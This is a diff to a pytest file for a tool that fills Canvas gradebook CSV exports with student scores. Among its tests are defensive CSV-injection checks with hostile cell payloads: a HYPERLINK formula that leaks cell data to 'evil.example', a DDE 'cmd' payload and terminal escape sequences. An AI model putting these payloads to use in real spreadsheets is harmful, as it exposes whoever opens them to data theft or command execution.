@@ -2,10 +2,17 @@
 
 from __future__ import annotations
 
+import contextlib
 import csv
 import io
+import os
+import threading
+import tracemalloc
+from pathlib import Path
+from typing import Any
 
 import pytest
+from typer.testing import CliRunner, Result
 
 from grader.batch.canvas import CanvasError, Filled, fill_gradebook
 from grader.batch.model import RosterRow, StudentOutcome
@@ -67,10 +74,10 @@ def by_id(rows: list[list[str]]) -> dict[str, list[str]]:
     return {row[1]: row for row in rows[1:] if row[1]}
 
 
-def refused(export: str, assignment: str, outcomes: list[StudentOutcome]) -> CanvasError:
-    """The CanvasError that filling raises."""
+def refused(export: str, assignment: str, outcomes: list[StudentOutcome], *, new_column: bool = True) -> CanvasError:
+    """The CanvasError that filling raises (a missing column is made, unless `new_column` is False)."""
     with pytest.raises(CanvasError) as caught:
-        fill_gradebook(export, assignment, outcomes)
+        fill_gradebook(export, assignment, outcomes, new_column=new_column)
     return caught.value
 
 
@@ -81,7 +88,7 @@ def test_fills_a_new_column_and_keeps_only_identity_and_that_column() -> None:
         graded("s3", 4, sis_login_id="alee@example.edu"),
         graded("1004", 1 / 3, email="bo.kim@example.edu"),
     ]
-    filled = fill_gradebook(EXPORT, "Lab 3 Cognito", outcomes)
+    filled = fill_gradebook(EXPORT, "Lab 3 Cognito", outcomes, new_column=True)
 
     rows = parsed(filled)
     assert rows[0] == [*IDENTITY, "Lab 3 Cognito"]
@@ -132,26 +139,28 @@ def test_finds_the_exports_column_by_its_title_or_its_id(named: str) -> None:
 
 
 def test_matches_by_sis_login_in_any_case() -> None:
-    filled = fill_gradebook(EXPORT, "Lab 3", [graded("u-77", 7, sis_login_id="JDOE", name="Someone Else")])
+    filled = fill_gradebook(
+        EXPORT, "Lab 3", [graded("u-77", 7, sis_login_id="JDOE", name="Someone Else")], new_column=True
+    )
 
     assert by_id(parsed(filled))["1001"][-1] == "7"
     assert filled.written == 1
 
 
 def test_matches_by_canvas_id_when_the_roster_has_no_sis_login() -> None:
-    filled = fill_gradebook(EXPORT, "Lab 3", [graded("1002", 5)])
+    filled = fill_gradebook(EXPORT, "Lab 3", [graded("1002", 5)], new_column=True)
 
     assert by_id(parsed(filled))["1002"][-1] == "5"
 
 
 def test_matches_by_canvas_id_when_the_sis_login_finds_no_row_and_the_row_has_none() -> None:
-    filled = fill_gradebook(EXPORT, "Lab 3", [graded("1004", 5, sis_login_id="bkim")])
+    filled = fill_gradebook(EXPORT, "Lab 3", [graded("1004", 5, sis_login_id="bkim")], new_column=True)
 
     assert by_id(parsed(filled))["1004"][-1] == "5"
 
 
 def test_matches_by_email_against_the_sis_login() -> None:
-    filled = fill_gradebook(EXPORT, "Lab 3", [graded("s-ann", 6, email="alee@EXAMPLE.edu")])
+    filled = fill_gradebook(EXPORT, "Lab 3", [graded("s-ann", 6, email="alee@EXAMPLE.edu")], new_column=True)
 
     assert by_id(parsed(filled))["1003"][-1] == "6"
 
@@ -160,7 +169,7 @@ def test_matches_by_email_column_which_is_read_but_not_written_back() -> None:
     export = EXPORT.replace("Section,Lab 2", "Section,Email,Lab 2").replace(
         "Cloud 101 Section A,8.00", "Cloud 101 Section A,jane.doe@example.edu,8.00"
     )
-    filled = fill_gradebook(export, "Lab 3", [graded("s-jane", 6, email="Jane.Doe@example.edu")])
+    filled = fill_gradebook(export, "Lab 3", [graded("s-jane", 6, email="Jane.Doe@example.edu")], new_column=True)
 
     rows = parsed(filled)
     assert rows[0] == [*IDENTITY, "Lab 3"]
@@ -223,7 +232,7 @@ def test_a_canvas_id_whose_row_is_someone_elses_is_refused() -> None:
 
 def test_ungradable_students_are_left_empty_never_zero() -> None:
     outcomes = [graded("s1", 9, sis_login_id="jdoe"), ungradable("s2", sis_login_id="rroe", line=3)]
-    filled = fill_gradebook(EXPORT, "Lab 3", outcomes)
+    filled = fill_gradebook(EXPORT, "Lab 3", outcomes, new_column=True)
 
     assert by_id(parsed(filled))["1002"][-1] == ""
     assert filled.left_empty == ["s2"]
@@ -262,7 +271,7 @@ def test_bom_crlf_and_integration_id_are_handled() -> None:
     export = "\ufeff" + EXPORT.replace("SIS Login ID,Section", "SIS Login ID,Integration ID,Section").replace(
         "jdoe,Cloud", "jdoe,INT-1,Cloud"
     ).replace("\n", "\r\n")
-    filled = fill_gradebook(export, "Lab 3", [graded("s1", 9, sis_login_id="jdoe")])
+    filled = fill_gradebook(export, "Lab 3", [graded("s1", 9, sis_login_id="jdoe")], new_column=True)
 
     rows = parsed(filled)
     assert rows[0] == ["Student", "ID", "SIS User ID", "SIS Login ID", "Integration ID", "Section", "Lab 3"]
@@ -274,7 +283,7 @@ def test_bom_crlf_and_integration_id_are_handled() -> None:
 def test_a_points_row_is_added_when_the_export_has_none() -> None:
     lines = EXPORT.splitlines(keepends=True)
     export = lines[0] + "".join(lines[2:])
-    filled = fill_gradebook(export, "Lab 3", [graded("s1", 9, sis_login_id="jdoe")])
+    filled = fill_gradebook(export, "Lab 3", [graded("s1", 9, sis_login_id="jdoe")], new_column=True)
 
     rows = parsed(filled)
     assert rows[1] == ["    Points Possible", "", "", "", "", "12"]
@@ -299,3 +308,294 @@ def test_results_out_of_different_totals_are_refused() -> None:
     error = refused(EXPORT, "Lab 3", outcomes)
 
     assert "different totals (10, 12)" in error.problems[0]
+
+
+# --- an assignment the gradebook lacks ---------------------------------------------------------------------------
+
+
+def test_an_assignment_the_gradebook_lacks_is_refused_with_its_assignment_columns() -> None:
+    """A column name the gradebook does not have is refused, listing its assignment columns (no totals, no ids)."""
+    error = refused(EXPORT, "Lab 3", [graded("s1", 9, sis_login_id="jdoe")], new_column=False)
+
+    assert "no column 'Lab 3'" in error.message
+    assert "'Lab 2 (11111)'" in error.message
+    assert "--new-column" in error.message
+    assert "Current Score" not in error.message
+    assert "SIS Login ID" not in error.message
+
+
+def test_the_refusal_cuts_a_long_list_of_assignment_columns_short() -> None:
+    """With many assignment columns, the refusal names the first few and counts the rest."""
+    header = "Student,ID," + ",".join(f"Quiz {n} ({n})" for n in range(1, 31))
+    error = refused(f"{header}\nJane,1001\n", "Lab 3", [graded("1001", 9)], new_column=False)
+
+    assert "'Quiz 10 (10)'" in error.message
+    assert "Quiz 11 (11)" not in error.message
+    assert "and 20 more" in error.message
+
+
+@pytest.mark.parametrize("new_column", [True, False])
+def test_an_assignment_the_gradebook_has_is_filled_with_or_without_new_column(new_column: bool) -> None:
+    """An existing column is filled either way: --new-column only allows making a missing one."""
+    export = EXPORT.replace("Lab 2 (11111)", "Lab 3 (22222)").replace("10.00", "12.00", 1)
+    filled = fill_gradebook(export, "Lab 3", [graded("s1", 11, sis_login_id="jdoe")], new_column=new_column)
+
+    assert (filled.column, filled.created) == ("Lab 3 (22222)", False)
+
+
+# --- formulas and control characters in what the gradebook holds -------------------------------------------------
+
+HOSTILE_EXPORT = (
+    "Student,ID,SIS User ID,SIS Login ID,Section,Lab 3 (22222)\n"
+    "    Points Possible,,,,,12.00\n"
+    "{cell},2001,{cell},{cell},{cell},{cell}\n"
+    '"Doe, Jane",1001,S-1001,jdoe,Cloud 101,-2.00\n'
+    ",,,,,{cell}\n"
+)
+
+
+@pytest.mark.parametrize(
+    "cell",
+    [
+        '=HYPERLINK("https://evil.example/?"&A1,"Open")',
+        "+1+cmd|' /C calc'!A0",
+        "-2+3",
+        "@SUM(A1:A9)",
+        " =1+1",
+    ],
+)
+def test_copied_cells_that_start_a_formula_get_a_leading_quote(cell: str) -> None:
+    """Names, SIS ids, sections and kept scores copied from the gradebook cannot start a formula."""
+    quoted = '"' + cell.replace('"', '""') + '"'
+    export = HOSTILE_EXPORT.format(cell=quoted)
+    filled = fill_gradebook(export, "Lab 3 (22222)", [graded("s1", 9, sis_login_id="jdoe")])
+
+    rows = parsed(filled)
+    hostile = by_id(rows)["2001"]
+    assert hostile == ["'" + cell, "2001", "'" + cell, "'" + cell, "'" + cell, "'" + cell]
+    assert rows[-1][-1] == "'" + cell
+    assert rows[0] == [*IDENTITY, "Lab 3 (22222)"]
+    assert rows[1] == ["    Points Possible", "", "", "", "", "12"]
+
+
+def test_scores_and_plain_numbers_stay_numbers() -> None:
+    """The grader's scores and the gradebook's plain numbers (a negative one too) are written as numbers."""
+    export = HOSTILE_EXPORT.format(cell="=1+1")
+    filled = fill_gradebook(export, "Lab 3 (22222)", [graded("2001", 0)])
+
+    rows = parsed(filled)
+    assert by_id(rows)["2001"][-1] == "0"
+    assert by_id(rows)["1001"][-1] == "-2.00"
+    assert rows[1][-1] == "12"
+    assert float(by_id(rows)["2001"][-1]) == 0
+
+
+def test_an_existing_column_whose_header_starts_a_formula_keeps_its_canvas_id() -> None:
+    """Canvas finds a column by the id in its header, so a formula-like header is quoted and still found."""
+    export = HOSTILE_EXPORT.format(cell="x").replace("Lab 3 (22222)", "=Lab 3 (22222)")
+    filled = fill_gradebook(export, "Lab 3 (22222)", [graded("s1", 9, sis_login_id="jdoe")])
+
+    assert parsed(filled)[0][-1] == "'=Lab 3 (22222)"
+    assert filled.column == "'=Lab 3 (22222)"
+
+
+@pytest.mark.parametrize(
+    ("payload", "cleaned"),
+    [
+        ("\x1b[31mred\x1b[0m", "red"),
+        ("line\nbreak", "line break"),
+        ("car\rriage", "carriage"),
+        ("tab\there", "tab here"),
+        ("del\x7f", "del"),
+        ("nel\x85", "nel"),
+        ("csi\x9b2J", "csi"),
+        ("nul\x00", "nul"),
+    ],
+)
+def test_control_characters_in_the_gradebook_are_not_copied(payload: str, cleaned: str) -> None:
+    """C0 and C1 controls (escape sequences, newlines, DEL) in copied cells are removed or become a space."""
+    export = HOSTILE_EXPORT.format(cell=f'"{payload}"')
+    filled = fill_gradebook(export, "Lab 3 (22222)", [graded("s1", 9, sis_login_id="jdoe")])
+
+    rows = parsed(filled)
+    assert by_id(rows)["2001"] == [cleaned, "2001", cleaned, cleaned, cleaned, cleaned]
+    assert not [c for row in rows for cell in row for c in cell if ord(c) < 32 or 127 <= ord(c) < 160]
+
+
+# --- a gradebook read from a file and written beside --out -------------------------------------------------------
+
+
+def class_export(students: int, assignments: int = 40) -> str:
+    """A gradebook of `students` rows (login0, login1, ...) and `assignments` columns, Lab 7 (10007) among them."""
+    titles = [f"Lab {n} ({10000 + n})" for n in range(1, assignments + 1)]
+    lines = [",".join(["Student", "ID", "SIS User ID", "SIS Login ID", "Section", *titles, "Current Score"])]
+    lines.append("    Points Possible,,,,," + ",".join(["12.00"] * assignments) + ",(read only)")
+    scores = ",".join(f"{n % 13}.00" for n in range(assignments))
+    lines += [f'"Name{n}, Some",{5000 + n},S-{n},login{n},Section A,{scores},80.00' for n in range(students)]
+    return "\n".join(lines) + "\n"
+
+
+def export_canvas(
+    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, export: str | None, outcomes: list[StudentOutcome], *args: str
+) -> Result:
+    """`grader export canvas` for a batch of `outcomes` on tmp_path/gradebook.csv (`export`, unless None).
+
+    It writes tmp_path/import.csv.
+    """
+    from grader.cli import app
+
+    monkeypatch.setattr("grader.batch.outputs.outcomes_of", lambda folder: outcomes)
+    gradebook = tmp_path / "gradebook.csv"
+    if export is not None:
+        gradebook.write_text(export, encoding="utf-8", newline="")
+    command = ["export", "canvas", str(tmp_path), "--gradebook", str(gradebook), "--out", str(tmp_path / "import.csv")]
+    return CliRunner().invoke(app, [*command, *args])
+
+
+def test_export_canvas_refuses_a_missing_column_unless_new_column_is_given(
+    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    """`export canvas` refuses an assignment the gradebook lacks, and adds it with --new-column."""
+    outcomes = [graded("s1", 9, sis_login_id="jdoe")]
+
+    refused_run = export_canvas(tmp_path, monkeypatch, EXPORT, outcomes, "--assignment", "Lab 3")
+    assert refused_run.exit_code == 2
+    assert "Its assignment columns are 'Lab 2 (11111)'" in " ".join(refused_run.output.split())
+    assert not (tmp_path / "import.csv").exists()
+
+    made = export_canvas(tmp_path, monkeypatch, EXPORT, outcomes, "--assignment", "Lab 3", "--new-column")
+    assert made.exit_code == 0, made.output
+    assert (tmp_path / "import.csv").read_text(encoding="utf-8").splitlines()[2].endswith(",9")
+
+
+def test_export_canvas_writes_what_filling_the_text_gives(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
+    """The file `export canvas` writes is byte for byte the filled text, BOM and CRLF in the gradebook or not."""
+    export = "\ufeff" + class_export(300).replace("\n", "\r\n")
+    outcomes = [graded(f"s{n}", n % 12, sis_login_id=f"login{n * 7}", line=n + 2) for n in range(40)]
+
+    result = export_canvas(tmp_path, monkeypatch, export, outcomes, "--assignment", "Lab 7 (10007)")
+
+    assert result.exit_code == 0, result.output
+    written = (tmp_path / "import.csv").read_bytes()
+    assert written == fill_gradebook(export, "Lab 7 (10007)", outcomes).text.encode("utf-8")
+    assert sorted(p.name for p in tmp_path.iterdir()) == ["gradebook.csv", "import.csv"]
+
+
+def test_a_failed_write_leaves_the_previous_file_and_no_temporary_one(
+    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    """When writing fails part way, --out keeps what it held and no half-written or temporary file is left."""
+    (tmp_path / "import.csv").write_text("the previous import\n", encoding="utf-8")
+
+    def full_disk(fd: int) -> None:
+        raise OSError(28, "No space left on device")
+
+    monkeypatch.setattr(os, "fsync", full_disk)
+    result = export_canvas(
+        tmp_path,
+        monkeypatch,
+        class_export(50),
+        [graded("s1", 9, sis_login_id="login3")],
+        "--assignment",
+        "Lab 7 (10007)",
+    )
+
+    assert result.exit_code == 2
+    assert "No space left on device" in result.output
+    assert (tmp_path / "import.csv").read_text(encoding="utf-8") == "the previous import\n"
+    assert sorted(p.name for p in tmp_path.iterdir()) == ["gradebook.csv", "import.csv"]
+
+
+def test_a_gradebook_changed_while_it_is_filled_is_refused(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
+    """Rows are read twice (to match, then to write): a gradebook changed in between writes nothing."""
+    from grader.batch import canvas
+
+    real_plan = canvas._plan
+
+    def plan_then_edit(*args: Any, **kwargs: Any) -> Any:
+        plan = real_plan(*args, **kwargs)
+        with (tmp_path / "gradebook.csv").open("a", encoding="utf-8") as file:
+            file.write('"Late, Joiner",9999,,late,Section A\n')
+        return plan
+
+    monkeypatch.setattr(canvas, "_plan", plan_then_edit)
+    result = export_canvas(
+        tmp_path,
+        monkeypatch,
+        class_export(50),
+        [graded("s1", 9, sis_login_id="login3")],
+        "--assignment",
+        "Lab 7 (10007)",
+    )
+
+    assert result.exit_code == 2
+    assert "changed" in result.output
+    assert not (tmp_path / "import.csv").exists()
+
+
+def test_memory_does_not_grow_with_the_gradebook(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
+    """Filling a ~5 MB gradebook peaks at about the memory of a tiny one: rows are streamed, not held."""
+    outcomes = [graded(f"s{n}", n % 12, sis_login_id=f"login{n * 7}", line=n + 2) for n in range(30)]
+    peaks = []
+    for students in (250, 250, 19_000):  # the first run imports what the command needs
+        (tmp_path / "gradebook.csv").write_text(class_export(students), encoding="utf-8")
+        tracemalloc.start()
+        try:
+            result = export_canvas(tmp_path, monkeypatch, None, outcomes, "--assignment", "Lab 7")
+            peaks.append(tracemalloc.get_traced_memory()[1])
+        finally:
+            tracemalloc.stop()
+        assert result.exit_code == 0, result.output
+    assert (tmp_path / "gradebook.csv").stat().st_size > 5_000_000
+    tiny, big = peaks[1], peaks[2]
+    assert big < 2 * tiny + 512_000, (tiny, big)
+
+
+def test_a_gradebook_that_is_not_utf8_is_refused_and_nothing_written(
+    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    """A byte that is not UTF-8, late in the gradebook, stops the export before anything is written."""
+    (tmp_path / "gradebook.csv").write_bytes(class_export(200).encode("utf-8") + b'"Ren\xe9e",7777,,renee,A\n')
+    result = export_canvas(
+        tmp_path, monkeypatch, None, [graded("s1", 9, sis_login_id="login3")], "--assignment", "Lab 7 (10007)"
+    )
+
+    assert result.exit_code == 2
+    assert "could not be read (UnicodeDecodeError)" in " ".join(result.output.split())
+    assert sorted(p.name for p in tmp_path.iterdir()) == ["gradebook.csv"]
+
+
+@pytest.mark.skipif(not hasattr(os, "mkfifo"), reason="named pipes are POSIX")
+def test_a_gradebook_that_cannot_be_read_twice_is_refused(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
+    """A pipe (say, `--gradebook <(...)`) cannot be read a second time: it is refused as the gradebook's fault."""
+    pipe = tmp_path / "gradebook.csv"
+    os.mkfifo(pipe)
+
+    def feed() -> None:
+        with contextlib.suppress(BrokenPipeError):  # the export stops reading once it sees a pipe
+            pipe.write_text(class_export(20), encoding="utf-8")
+
+    feeder = threading.Thread(target=feed, daemon=True)
+    feeder.start()
+    try:
+        result = export_canvas(
+            tmp_path, monkeypatch, None, [graded("s1", 9, sis_login_id="login3")], "--assignment", "Lab 7 (10007)"
+        )
+    finally:
+        feeder.join(timeout=10)
+
+    assert result.exit_code == 2
+    assert "save the export as a file" in " ".join(result.output.split())
+    assert not (tmp_path / "import.csv").exists()
+
+
+def test_many_rows_sharing_a_students_key_are_counted_not_all_listed() -> None:
+    """A login on hundreds of rows is one problem naming the first few rows and counting the rest."""
+    export = EXPORT + "".join(f'"Copy, {n}",{3000 + n},,jdoe,A,,,,,,,,\n' for n in range(300))
+    error = refused(export, "Lab 3", [graded("s1", 9, sis_login_id="jdoe")])
+
+    assert len(error.problems) == 1
+    assert "301 gradebook rows have SIS Login ID 'jdoe'" in error.problems[0]
+    assert "row 3 (Doe, Jane)" in error.problems[0]
+    assert "and 296 more" in error.problems[0]
+    assert "Copy, 299" not in error.problems[0]
